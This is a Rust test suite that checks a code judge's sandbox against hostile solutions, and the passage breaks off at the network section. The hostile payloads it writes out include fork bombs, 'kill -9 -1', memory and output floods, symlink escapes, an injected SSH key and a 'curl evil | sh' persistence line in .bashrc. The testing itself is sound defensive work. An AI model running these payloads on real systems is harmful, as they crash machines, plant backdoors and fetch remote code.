//! The hostile-solution suite: solutions that attack the judge or the machine (endless loops,
//! fork and memory bombs, floods, escapes from the working folder, links, network, signals,
//! environment leaks, malformed output). Each case asserts its verdict and that the judge
//! answered in bounded time, left no process of the run alive, left no run folder behind,
//! and changed nothing outside (a canary folder in /tmp, the challenge folder).
//! Cases that could harm this machine if the sandbox failed run only inside a containment the
//! test sets up itself (`support::contained`), and are skipped loudly when there is none (a
//! failure with `LIVEJUDGE_REQUIRE_SANDBOX=1`: `support::skip`). It runs as root in CI and a
//! second time as an unprivileged user (`.ci/run`), which skips the one root-only case.

mod support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use support::{Canary, Case, Judged};

/// The judge must answer well within this, whatever the solution does.
const BOUND: Duration = Duration::from_secs(20);
/// Past this the test harness kills the judge (by pid) and fails.
const HARD_STOP: Duration = Duration::from_secs(60);

/// Small limits so the suite stays fast: time, memory, output cap, file size, processes.
const LIMITS: [(&str, &str); 5] = [
    ("time", "\"3s\""),
    ("memory", "\"64MiB\""),
    ("output", "\"1MiB\""),
    ("file_size", "\"1MiB\""),
    ("processes", "16"),
];

fn challenge_toml(limits: &[(&str, &str)], tests: &str) -> String {
    let mut merged: BTreeMap<&str, &str> = LIMITS.iter().copied().collect();
    merged.extend(limits.iter().copied());
    let limits: String = merged
        .iter()
        .map(|(key, value)| format!("{key} = {value}\n"))
        .collect();
    format!(
        "id = \"demo\"\ntitle = \"Demo\"\ncategory = \"scripting\"\ndifficulty = \"easy\"\n\
         entry = \"solve\"\n\n[limits]\n{limits}\n{tests}"
    )
}

/// One test expecting `stdout`.
fn expecting(stdout: &str) -> String {
    format!("[[test]]\nname = \"t\"\nstdout = {stdout:?}\n")
}

type Setup = Box<dyn FnOnce(&mut Command)>;

/// Cases that use up the run's whole process budget take this exclusively; the others share it.
/// As root every run is uid 65534 and RLIMIT_NPROC counts all of that user's processes, so a
/// bomb at its limit would make concurrent cases fail to fork (see
/// `a_fork_bomb_does_not_starve_a_concurrent_run`).
static PROCESS_BUDGET: std::sync::RwLock<()> = std::sync::RwLock::new(());

/// A hostile case: a challenge, a solution, and everything checked around its run.
struct Hostile {
    /// Unique per case: solutions use it as a `sleep` argument so survivors can be found.
    mark: String,
    canary: Canary,
    case: Option<Case>,
    dangerous: bool,
    exclusive: bool,
    setup: Vec<Setup>,
}

impl Hostile {
    fn new() -> Hostile {
        Hostile {
            mark: support::unique(),
            canary: Canary::new(),
            case: None,
            dangerous: false,
            exclusive: false,
            setup: Vec::new(),
        }
    }

    fn challenge(mut self, limits: &[(&str, &str)], tests: &str) -> Hostile {
        self.case = Some(Case::new(&challenge_toml(limits, tests)));
        self
    }

    fn map(mut self, f: impl FnOnce(Case) -> Case) -> Hostile {
        self.case = self.case.take().map(f);
        self
    }

    fn solution(self, name: &str, content: &str) -> Hostile {
        self.map(|c| c.solution(name, content))
    }

    fn file(self, relative: &str, content: &str) -> Hostile {
        self.map(|c| c.file(relative, content))
    }

    fn args(self, args: &[&str]) -> Hostile {
        self.map(|c| c.args(args))
    }

    fn env(self, key: &str, value: &str) -> Hostile {
        self.map(|c| c.env(key, value))
    }

    /// Could harm the machine if the sandbox failed: runs only contained.
    fn dangerous(mut self) -> Hostile {
        self.dangerous = true;
        self
    }

    /// Uses the run's whole process budget: runs while no other case runs.
    fn exclusive(mut self) -> Hostile {
        self.exclusive = true;
        self
    }

    /// Changes the judge's command before it runs (extra descriptors, …).
    fn setup(mut self, f: impl FnOnce(&mut Command) + 'static) -> Hostile {
        self.setup.push(Box::new(f));
        self
    }

    fn case(&self) -> &Case {
        self.case.as_ref().expect("a challenge")
    }

    /// The challenge folder.
    fn dir(&self) -> PathBuf {
        self.case().dir().to_path_buf()
    }

    /// Runs the judge and checks everything but the verdict. `None` when the case was skipped.
    fn run(mut self) -> Option<Judged> {
        let case = self.case.take().expect("a challenge");
        let before = snapshot(case.dir());
        let mut command = case.json_command();
        for setup in self.setup.drain(..) {
            setup(&mut command);
        }
        let (_shared, _exclusive) = if self.exclusive {
            let guard = PROCESS_BUDGET.write().unwrap_or_else(|e| e.into_inner());
            (None, Some(guard))
        } else {
            let guard = PROCESS_BUDGET.read().unwrap_or_else(|e| e.into_inner());
            (Some(guard), None)
        };
        let started = Instant::now();
        let (output, alive_after) = if self.dangerous {
            match support::contained(&command, HARD_STOP) {
                Ok(contained) => (contained.output, contained.alive_after),
                Err(why) => {
                    support::skip(format!(
                        "it could harm this machine if the sandbox failed, and no containment \
                         could be set up: {why}"
                    ));
                    return None;
                }
            }
        } else {
            (support::run_bounded(command, HARD_STOP), None)
        };
        let elapsed = started.elapsed();
        assert!(
            elapsed < BOUND,
            "the judge took {elapsed:?}; stderr:\n{}",
            output.stderr
        );
        let judged = Judged::parse(output);
        assert!(
            judged.status == 0 || judged.status == 1,
            "the judge must answer with a verdict (exit 0 or 1), got {}; stderr:\n{}\n{}",
            judged.status,
            judged.stderr,
            judged.json
        );
        let survivors: Vec<u32> = support::processes_with(&self.mark)
            .into_iter()
            .chain(support::processes_with(
                &case.tmp_path().display().to_string(),
            ))
            .collect();
        assert!(
            survivors.is_empty(),
            "processes of the run survived: {}",
            describe(&survivors)
        );
        if let Some(alive) = alive_after {
            assert_eq!(
                alive, 1,
                "processes were left in the containment's PID namespace after the judge ended"
            );
        }
        assert_eq!(
            case.leftover_run_folders(),
            Vec::<String>::new(),
            "run folders left behind"
        );
        self.canary.assert_untouched();
        assert_eq!(snapshot(case.dir()), before, "the challenge folder changed");
        let report = judged.json.to_string();
        assert!(
            !report.contains(&self.canary.secret),
            "the canary secret leaked into the report: {report}"
        );
        Some(judged)
    }
}

/// Every file below `dir` with its content (and folders), to see that nothing changed.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Option<Vec<u8>>> {
    let mut found = BTreeMap::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(folder) = pending.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if entry.file_type().map(|t| t.is_dir()).unwrap_or(false) {
                pending.push(path.clone());
                found.insert(path, None);
            } else {
                found.insert(path.clone(), std::fs::read(&path).ok());
            }
        }
    }
    found
}

fn describe(pids: &[u32]) -> String {
    pids.iter()
        .map(|pid| {
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            format!(
                "{pid}: {}",
                String::from_utf8_lossy(&cmdline).replace('\0', " ")
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn verdict(judged: &Judged) -> String {
    judged.test(0)["verdict"]
        .as_str()
        .unwrap_or("?")
        .to_string()
}

fn assert_verdict(judged: &Judged, allowed: &[&str]) {
    let got = verdict(judged);
    assert!(
        allowed.contains(&got.as_str()),
        "verdict {got}, expected one of {allowed:?}: {}",
        judged.json
    );
}

/// Lets everyone traverse the case's temporary root and read the challenge folder, so only the
/// sandbox (not file permissions) keeps the run out of it.
fn expose(dir: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    if let Some(root) = dir.parent() {
        std::fs::set_permissions(root, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut pending = vec![dir.to_path_buf()];
    while let Some(folder) = pending.pop() {
        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(mode)).unwrap();
        for entry in std::fs::read_dir(&folder).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                pending.push(entry.path());
            } else {
                std::fs::set_permissions(
                    entry.path(),
                    std::fs::Permissions::from_mode(mode & 0o666),
                )
                .unwrap();
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Time

#[test]
fn infinite_loop() {
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", "while :; do :; done\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["TLE"]);
}

#[test]
fn sleep_forever() {
    let h = Hostile::new();
    let solution = format!("sleep {}\n", h.mark);
    let r = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["TLE"]);
    assert_eq!(r.test(0)["detail"], "wall");
}

#[test]
fn a_sleeping_solution_with_a_child_is_stopped_at_its_limit() {
    // The right answer, then a sleep with a child sleeping beside it (holding stdout): TLE,
    // measured at the limit, and the judge answers right after it (#14: the bounds are
    // generous, the latency itself is measured with a release build, not asserted).
    let h = Hostile::new();
    let solution = format!("echo 42\nsleep {} & sleep {}\n", h.mark, h.mark);
    let started = Instant::now();
    let r = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    let elapsed = started.elapsed();
    assert_verdict(&r, &["TLE"]);
    assert_eq!(r.test(0)["detail"], "wall");
    let wall = r.test(0)["wall_ms"].as_f64().unwrap_or(f64::MAX);
    assert!((1000.0..1500.0).contains(&wall), "wall_ms {wall}");
    assert!(
        elapsed < Duration::from_secs(6),
        "the judge took {elapsed:?}"
    );
}

#[test]
fn blocked_read_on_the_terminal() {
    // No controlling terminal and no access to /dev/tty: the read fails at once, it never waits.
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"2s\"")], &expecting("42\n"))
        .solution(
            "solve.sh",
            "cat /dev/tty\nread -r line < /dev/tty\necho 42\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn reading_stdin_gets_end_of_file() {
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"2s\"")], &expecting("42\n"))
        .solution("solve.sh", "cat\nread -r line\necho 42\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn multi_process_cpu_burn() {
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution(
            "solve.sh",
            "for i in 1 2 3 4 5 6; do (while :; do :; done) & done\nwait\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["TLE"]);
}

// ---------------------------------------------------------------------------------------------
// Processes

#[test]
fn fork_bomb_classic() {
    let h = Hostile::new();
    let solution = format!(":(){{ :|:& }};:\nsleep {}\n", h.mark);
    let Some(r) = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .dangerous()
        .exclusive()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["TLE"]);
}

#[test]
fn fork_bomb_in_python() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution(
            "solve.py",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        )
        .dangerous()
        .exclusive()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["TLE"]);
}

#[test]
// As root each run has its own pids cgroup; as another user RLIMIT_NPROC counts the judge's
// user, so the run still cannot starve another user's runs.
fn a_fork_bomb_does_not_starve_a_concurrent_run() {
    let h = Hostile::new();
    let solution = format!(
        "if [ \"$1\" = bomb ]; then\n\
         \x20 for i in $(seq 40); do sleep {m} & done 2>/dev/null\n\
         \x20 sleep {m}\n\
         else\n\
         \x20 sleep 0.5\n\
         \x20 /bin/echo 42\n\
         \x20 exit 0\n\
         fi\n",
        m = h.mark
    );
    let tests = "[[test]]\nname = \"bomb\"\nargs = [\"bomb\"]\nstdout = \"\"\n\
                 [[test]]\nname = \"calm\"\nargs = [\"calm\"]\nstdout = \"42\\n\"\n";
    let Some(r) = h
        .challenge(&[("time", "\"2s\"")], tests)
        .solution("solve.sh", &solution)
        .args(&["--jobs", "2"])
        .dangerous()
        .exclusive()
        .run()
    else {
        return;
    };
    assert_eq!(r.verdicts(), ["TLE", "AC"], "{}", r.json);
}

#[test]
fn setsid_double_fork_daemon() {
    let h = Hostile::new();
    let solution = format!(
        "setsid sh -c 'sleep {m} &' </dev/null >/dev/null 2>&1\n\
         (setsid sleep {m} &)\n\
         nohup sleep {m} >/dev/null 2>&1 &\n\
         sleep 0.3\necho 42\n",
        m = h.mark
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn daemon_that_ignores_signals() {
    let h = Hostile::new();
    let solution = format!(
        "import os, signal, sys, time\n\
         if os.fork() == 0:\n\
         \x20   os.setsid()\n\
         \x20   if os.fork() == 0:\n\
         \x20       for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n\
         \x20           signal.signal(s, signal.SIG_IGN)\n\
         \x20       os.execvp('sleep', ['sleep', '{m}'])\n\
         \x20   os._exit(0)\n\
         time.sleep(0.3)\nprint(42)\n",
        m = h.mark
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.py", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn parent_exits_while_children_hold_stdout() {
    let h = Hostile::new();
    let solution = format!(
        "(sleep {}; echo late) &\n(exec sleep {} >&2) &\necho 42\n",
        h.mark, h.mark
    );
    let r = h
        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
    let wall = r.test(0)["wall_ms"].as_f64().unwrap_or(f64::MAX);
    assert!(
        wall < 5000.0,
        "the run should end when its main process does: {wall} ms"
    );
}

#[test]
fn stopping_or_killing_the_judge() {
    let h = Hostile::new();
    // Every process whose command line names livejudge, found through /proc (but itself: its
    // own path names livejudge's run folder), then the parent pids, then pkill by name.
    let solution = "judges=\n\
                    for p in /proc/[0-9]*; do\n\
                    \x20 [ \"${p#/proc/}\" = \"$$\" ] && continue\n\
                    \x20 case \"$(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\" in\n\
                    \x20   *livejudge*) judges=\"$judges ${p#/proc/}\";;\n\
                    \x20 esac\n\
                    done\n\
                    echo \"found:$judges\" >&2\n\
                    for sig in STOP KILL; do\n\
                    \x20 for pid in $judges $PPID 1; do kill -$sig $pid 2>/dev/null; done\n\
                    done\n\
                    pkill -STOP -f __supervise; pkill -9 -f __supervise; pkill -9 livejudge\n\
                    echo 42\n";
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", solution)
        .dangerous()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["AC"]);
}

#[test]
fn kill_everything_with_kill_minus_one() {
    let h = Hostile::new();
    let solution = format!("sleep {} &\nkill -9 -1\nkill -STOP -1\necho 42\n", h.mark);
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .dangerous()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["AC"]);
}

// ---------------------------------------------------------------------------------------------
// Memory

#[test]
fn one_huge_allocation() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.py", "x = bytearray(8 << 30)\nprint(42)\n")
        .dangerous()
        .run()
    else {
        return;
    };
    // Under RLIMIT_AS the allocation fails at once and leaves no trace the judge can see (no
    // peak memory near the limit): MLE needs cgroup memory accounting, RTE is what remains.
    assert_verdict(&r, &["MLE", "RTE"]);
}

#[test]
fn gradual_memory_growth() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.py",
            "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 20))\n",
        )
        .dangerous()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["MLE"]);
}

#[test]
fn memory_growth_in_bash() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "s=x\nwhile :; do s=\"$s$s\"; done\n")
        .dangerous()
        .run()
    else {
        return;
    };
    // The doubling allocation that fails may leave the peak resident memory below the MLE share
    // of the limit: under RLIMIT_AS alone the judge then sees a plain failure (see the report).
    assert_verdict(&r, &["MLE", "RTE"]);
}

#[test]
fn stack_overflow_by_deep_recursion() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.py",
            "import sys\nsys.setrecursionlimit(10 ** 9)\n\
             def f(n):\n    return f(n + 1) + 1\nprint(f(0))\n",
        )
        .dangerous()
        .run()
    else {
        return;
    };
    assert_verdict(&r, &["RTE", "MLE"]);
}

#[test]
fn bash_function_recursion() {
    let h = Hostile::new();
    let Some(r) = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", "f() { f \"$@\"; }\nf\necho 42\n")
        .dangerous()
        .run()
    else {
        return;
    };
    // Bash recursion is slow: it may run out of time before it runs out of memory.
    assert_verdict(&r, &["RTE", "MLE", "TLE"]);
}

// ---------------------------------------------------------------------------------------------
// Output and files

#[test]
fn stdout_flood() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "yes\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["OLE"]);
    assert_eq!(r.test(0)["detail"], "stdout");
}

#[test]
fn stderr_flood() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "echo 42\nyes >&2\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["OLE"]);
    assert_eq!(r.test(0)["detail"], "stderr");
}

#[test]
fn correct_answer_then_whitespace_flood() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "echo 42\nyes ''\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["OLE"]);
}

#[test]
fn disk_fill_past_file_size() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "head -c 100M /dev/zero > big\necho 42\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["OLE"]);
    assert_eq!(r.test(0)["detail"], "file");
}

#[test]
fn tens_of_thousands_of_small_files() {
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
        .solution(
            "solve.sh",
            "mkdir d && cd d && seq 1 30000 | xargs touch\nls | wc -l >&2\necho 42\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn very_deep_folders() {
    // Deeper than PATH_MAX: removal must not depend on whole paths.
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
        .solution(
            "solve.py",
            "import os\nfor i in range(2100):\n    os.mkdir('dd')\n    os.chdir('dd')\n\
             open('f', 'w').close()\nos.chmod('.', 0)\nprint(42)\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn chmod_000_inside_the_working_folder() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.sh",
            "mkdir -p a/b/c && echo x > a/b/c/f && echo y > g\n\
             chmod 000 a/b/c/f g a/b/c a/b a .tmp\necho 42\nchmod 000 .\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn fifo_where_the_judge_reads_a_file() {
    let h = Hostile::new();
    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\n\
                 files = [{ path = \"out.txt\", text = \"42\\n\" }]\n";
    let r = h
        .challenge(&[], tests)
        .solution("solve.sh", "mkfifo out.txt\necho 42\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

// ---------------------------------------------------------------------------------------------
// Reading and writing outside the working folder

#[test]
fn searching_the_filesystem_and_proc_for_the_expected_answer() {
    let h = Hostile::new();
    let answer = format!("ANSWER-{}", h.mark.replace('.', "-"));
    let tests =
        "[[test]]\nname = \"t\"\nstdin = \"hello\\n\"\nstdout = { file = \"tests/t.out\" }\n";
    // Every path the run could learn: from /proc (the judge's command line and descriptors),
    // from the run folder's neighbours, and by a bounded search of /tmp.
    let solution = "for p in /proc/[0-9]*; do\n\
                    \x20 tr '\\0' '\\n' < $p/cmdline 2>/dev/null | grep '^/' | while read -r path; do\n\
                    \x20   d=${path%/*}\n\
                    \x20   for f in \"$path\" \"$path\"/tests/* \"$d\"/tests/* \"$d\"/*/tests/*; do\n\
                    \x20     cat \"$f\" 2>/dev/null\n\
                    \x20   done\n\
                    \x20 done\n\
                    \x20 cat $p/cwd/tests/* $p/root/tmp/*/demo/tests/* 2>/dev/null\n\
                    \x20 for fd in $p/fd/*; do [ -f \"$fd\" ] && head -c 200 \"$fd\" 2>/dev/null; done\n\
                    done\n\
                    cat ../judge/* ../../*/judge/* 2>/dev/null\n\
                    find /tmp -maxdepth 4 -name '*.out' 2>/dev/null | head -50 | xargs cat 2>/dev/null\n\
                    grep -rs ANSWER- /tmp 2>/dev/null | head -5\n\
                    true\n";
    let h = h
        .challenge(&[("time", "\"10s\"")], tests)
        .file("tests/t.out", &format!("{answer}\n"))
        .solution("solve.sh", solution);
    expose(&h.dir(), 0o755);
    let r = h.run().unwrap();
    assert_verdict(&r, &["WA"]);
    let diff = r.test(0)["diff"].as_str().unwrap_or("").to_string();
    for line in diff.lines().filter(|l| l.starts_with('+')) {
        assert!(!line.contains(&answer), "the run found the answer:\n{diff}");
    }
    let message = r.test(0)["message"].as_str().unwrap_or("");
    assert!(
        !message.contains(&format!("got \"{answer}")),
        "the run found the answer: {message}"
    );
}

#[test]
fn writing_to_tmp_and_dev_shm() {
    let h = Hostile::new();
    let escape = format!("/tmp/livejudge-escape-{}", h.mark);
    let shm = format!("/dev/shm/livejudge-escape-{}", h.mark);
    let solution = format!(
        "echo x > {escape}\necho x > {shm}\nmkdir {escape}.d\n\
         echo x > {canary}/new\necho x >> {canary}/file\nrm -f {canary}/file\n\
         mv {canary}/secret {canary}/moved\ntouch {canary}/secret\n\
         true\necho 42\n",
        canary = h.canary.dir.display()
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    let folder = format!("{escape}.d");
    let leaked: Vec<&String> = [&escape, &shm, &folder]
        .into_iter()
        .filter(|p| Path::new(p).exists())
        .collect();
    for path in &leaked {
        let _ = std::fs::remove_file(path);
        let _ = std::fs::remove_dir(path);
    }
    assert!(leaked.is_empty(), "the run wrote outside: {leaked:?}");
    assert_verdict(&r, &["AC"]);
}

#[test]
// Landlock does not restrict chmod, chown, utime or xattr changes: a run of an unprivileged judge
// (same uid) is stopped by the read-only mount namespace (as root, by running as uid 65534).
fn changing_modes_and_times_outside_the_working_folder() {
    let h = Hostile::new();
    let solution = format!(
        "chmod 000 {c}/secret\nchmod 000 {c}/file\nchmod 000 {c}\ntouch -d 2000-01-01 {c}/file\n\
         setfattr -n user.pwned -v 1 {c}/file 2>/dev/null\ntrue\necho 42\n",
        c = h.canary.dir.display()
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn other_processes_are_invisible_in_proc() {
    // A process of the machine (started by this test) holding a secret on its command line:
    // the run's /proc is its own PID namespace's, so it cannot see it.
    let h = Hostile::new();
    let secret = format!("{}.{}", 900_000 + std::process::id() % 1000, 123);
    let mut witness = std::process::Command::new("sleep")
        .arg(&secret)
        .spawn()
        .unwrap();
    let solution = format!(
        "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\" 2>/dev/null | grep -q 'sleep {secret}' && {{ echo seen; exit 0; }}; done\n\
         echo hidden\n"
    );
    let r = h
        .challenge(&[], &expecting("hidden\n"))
        .solution("solve.sh", &solution)
        .run();
    // Only the process this test started, by its pid.
    let _ = witness.kill();
    let _ = witness.wait();
    assert_verdict(&r.unwrap(), &["AC"]);
}

#[test]
fn writing_into_the_judges_home() {
    let h = Hostile::new();
    let home = h.canary.dir.display().to_string();
    let solution = format!(
        "mkdir -p {home}/.ssh\necho 'ssh-ed25519 AAAA attacker' >> {home}/.ssh/authorized_keys\n\
         echo 'curl evil | sh' >> {home}/.bashrc\necho pwned > {home}/file\n\
         echo pwned >> ~/.bashrc\necho 42\n"
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .env("HOME", &home)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn writing_into_the_challenge_folder() {
    let h = Hostile::new()
        .challenge(
            &[],
            "[[test]]\nname = \"t\"\nstdout = { file = \"tests/t.out\" }\n",
        )
        .file("tests/t.out", "42\n");
    let dir = h.dir().display().to_string();
    let solution = format!(
        "echo hacked > {dir}/tests/t.out\necho hacked > {dir}/pwned\n\
         sed -i 's/stdout/stderr/' {dir}/challenge.toml\nrm -f {dir}/challenge.toml\necho hacked\n"
    );
    let h = h.solution("solve.sh", &solution);
    expose(&h.dir(), 0o777);
    let r = h.run().unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn appending_through_an_inherited_descriptor() {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let h = Hostile::new();
    let target = std::fs::OpenOptions::new()
        .append(true)
        .open(h.canary.file())
        .unwrap();
    let folder = std::fs::File::open(&h.canary.dir).unwrap();
    let (file_fd, folder_fd) = (target.as_raw_fd(), folder.as_raw_fd());
    let solution = "for fd in $(seq 3 20); do\n\
                    \x20 [ -e /proc/$$/fd/$fd ] && echo \"open $fd\"\n\
                    \x20 { echo pwned >&$fd; } 2>/dev/null\n\
                    done\n\
                    python3 -c '\nimport os\ndef is_open(fd):\n    try:\n        os.fstat(fd)\n        return True\n    except OSError:\n        return False\nprint(*[fd for fd in range(3, 64) if is_open(fd)])'\n\
                    echo 42\n";
    let r = h
        .challenge(&[], &expecting("\n42\n"))
        .solution("solve.sh", solution)
        .setup(move |command| {
            // SAFETY: dup2 only; the descriptors stay open in the test until after the run.
            unsafe {
                command.pre_exec(move || {
                    for (from, to) in [(file_fd, 5), (file_fd, 9), (file_fd, 19), (folder_fd, 7)] {
                        if libc::dup2(from, to) < 0 {
                            return Err(std::io::Error::last_os_error());
                        }
                    }
                    Ok(())
                });
            }
        })
        .run()
        .unwrap();
    drop((target, folder));
    assert_verdict(&r, &["AC"]);
}

// ---------------------------------------------------------------------------------------------
// Links

#[test]
fn symlink_to_a_file_the_judge_reads() {
    let h = Hostile::new();
    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\n\
                 files = [{ path = \"out.txt\", text = \"42\\n\" }, { path = \"sub/other.txt\", text = \"42\\n\" }]\n";
    let solution = format!(
        "ln -s {secret} out.txt\nmkdir sub\nln -s {dir} sub/up\nln -s up/secret sub/other.txt\necho 42\n",
        secret = h.canary.secret_file(),
        dir = h.canary.dir.display()
    );
    let r = h
        .challenge(&[], tests)
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn symlink_replacing_an_unchanged_fixture() {
    let h = Hostile::new();
    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfixtures = \"tests/fx\"\nunchanged = [\"data.txt\"]\n";
    let content = h.canary.content.clone();
    let solution = format!("rm data.txt\nln -s {} data.txt\necho 42\n", h.canary.file());
    let r = h
        .challenge(&[], tests)
        .file("tests/fx/data.txt", &content)
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn symlinks_to_outside_folders_at_cleanup() {
    let h = Hostile::new();
    let solution = format!(
        "ln -s {c} escape\nrm -rf .tmp && ln -s {c} .tmp\nmkdir -p sub && ln -s {c} sub/x\n\
         ln -s {c}/file file-link\nln -s / root-link\necho 42\n",
        c = h.canary.dir.display()
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn hard_link_to_a_file_outside() {
    let h = Hostile::new();
    let tests = format!(
        "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfiles = [{{ path = \"out.txt\", text = \"{}\\n\" }}]\n",
        h.canary.secret
    );
    let solution = format!("ln {} out.txt\necho 42\n", h.canary.secret_file());
    let r = h
        .challenge(&[], &tests)
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn hard_link_with_the_sandbox_off_is_still_never_read() {
    // Without Landlock the run can make the link; the judge itself must refuse to read through
    // it (and its cleanup must leave the target alone). A hard link cannot cross filesystems,
    // so the secret lives beside the run folders (on /dev/shm when the judge uses it).
    let h = Hostile::new();
    let base = if std::path::Path::new("/dev/shm").is_dir() {
        std::path::PathBuf::from("/dev/shm")
    } else {
        std::env::temp_dir()
    };
    let secret = tempfile::Builder::new()
        .prefix("livejudge-hardlink-secret-")
        .tempfile_in(&base)
        .unwrap();
    let secret_text = format!("{}\n", h.canary.secret);
    std::fs::write(secret.path(), &secret_text).unwrap();
    if support::is_root() {
        // The kernel lets a user hard-link only files it owns (protected_hardlinks).
        std::os::unix::fs::chown(secret.path(), Some(65534), Some(65534)).unwrap();
    }
    let tests = format!(
        "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfiles = [{{ path = \"out.txt\", text = \"{}\\n\" }}]\n",
        h.canary.secret
    );
    let solution = format!(
        "ln {} out.txt && echo linked >&2\necho 42\n",
        secret.path().display()
    );
    let r = h
        .challenge(&[], &tests)
        .solution("solve.sh", &solution)
        .args(&["--sandbox", "off"])
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
    let message = r.test(0)["message"].as_str().unwrap_or("").to_string();
    assert!(message.contains("link"), "{message}");
    assert_eq!(
        std::fs::read_to_string(secret.path()).unwrap(),
        secret_text,
        "the link's target must be untouched"
    );
}

// ---------------------------------------------------------------------------------------------
// Network

#[test]
